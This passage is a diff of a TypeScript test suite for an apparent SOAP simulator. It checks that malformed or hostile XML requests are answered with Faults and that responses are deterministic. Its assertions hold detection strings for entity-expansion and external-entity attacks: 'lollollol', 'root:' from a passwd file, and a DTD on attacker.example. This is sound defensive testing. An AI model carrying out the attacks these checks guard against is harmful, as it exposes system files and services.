+    'malformed XML': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="urn:c"><c:customerId>1</c:GetCustomer></soap:Body>`,
+    'an undeclared prefix': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><q:GetCustomer/></soap:Body></soap:Envelope>`,
+    'not XML at all': '{"customerId": "CUS-00000001"}',
+  };
+
+  for (const [what, text] of Object.entries(HOSTILE)) {
+    for (const version of ['1.1', '1.2'] as const) {
+      it(`answers ${what} (SOAP ${version} content type) with a Client/Sender Fault, nothing expanded`, async () => {
+        const sim = await open('crm-customers.wsdl', 'hostile');
+        const body = version === '1.1' ? text : text.replaceAll(SOAP11, SOAP12);
+        const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, 'http://crm.acme-example.test/services/customers/v4/GetCustomer'), body });
+        const fault = faultOf(answer, version);
+        expect(fault.code).toBe(senderCode(version));
+        expect(answer.text).not.toContain('lollollol');
+        expect(answer.text).not.toContain('root:');
+        expect(answer.text).not.toContain('attacker.example/p.dtd"');
+      });
+    }
+  }
+
+  it('the hostile fixture documents, POSTed as requests, are refused as Faults', async () => {
+    const sim = await open('crm-customers.wsdl', 'hostile');
+    const dir = new URL('hostile/', DIR);
+    const files = readdirSync(dir).filter((f) => f.endsWith('.wsdl'));
+    expect(files.length).toBeGreaterThan(0);
+    for (const file of files) {
+      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', null), body: readFileSync(new URL(file, dir), 'utf8') });
+      expect(faultOf(answer, '1.1').code, file).toBe('Client');
+    }
+  });
+});
+
+describe('determinism', () => {
+  /** Every answer of a fixed request sequence over every fixture operation, as text. */
+  async function transcript(name: string, seed: string): Promise<string[]> {
+    const sim = await open(name, seed, 3);
+    const out: string[] = [];
+    const versions = FIXTURES[name]!.versions;
+    for (const round of [0, 1]) {
+      for (const version of versions) {
+        for (const [id, op] of Object.entries(sim.ops)) {
+          const answer = send(sim, id, generateValue(op.input.schema, { registry: sim.registry, random: randomFor(id, version, round), now: NOW }), version);
+          out.push(`${answer.status} ${JSON.stringify(answer.headers)} ${answer.text}`);
+        }
+      }
+    }
+    return out;
+  }
+
+  for (const name of ['crm-customers.wsdl', 'bank-accounts-rpc.wsdl', 'bundle-travel', 'carrier-shipping-soap12.wsdl']) {
+    it(`${name}: the same seed and requests give byte-identical answers; another seed differs`, async () => {
+      const first = await transcript(name, 'alpha');
+      expect(await transcript(name, 'alpha')).toEqual(first);
+      expect(await transcript(name, 'beta')).not.toEqual(first);
+    });
+  }
+});
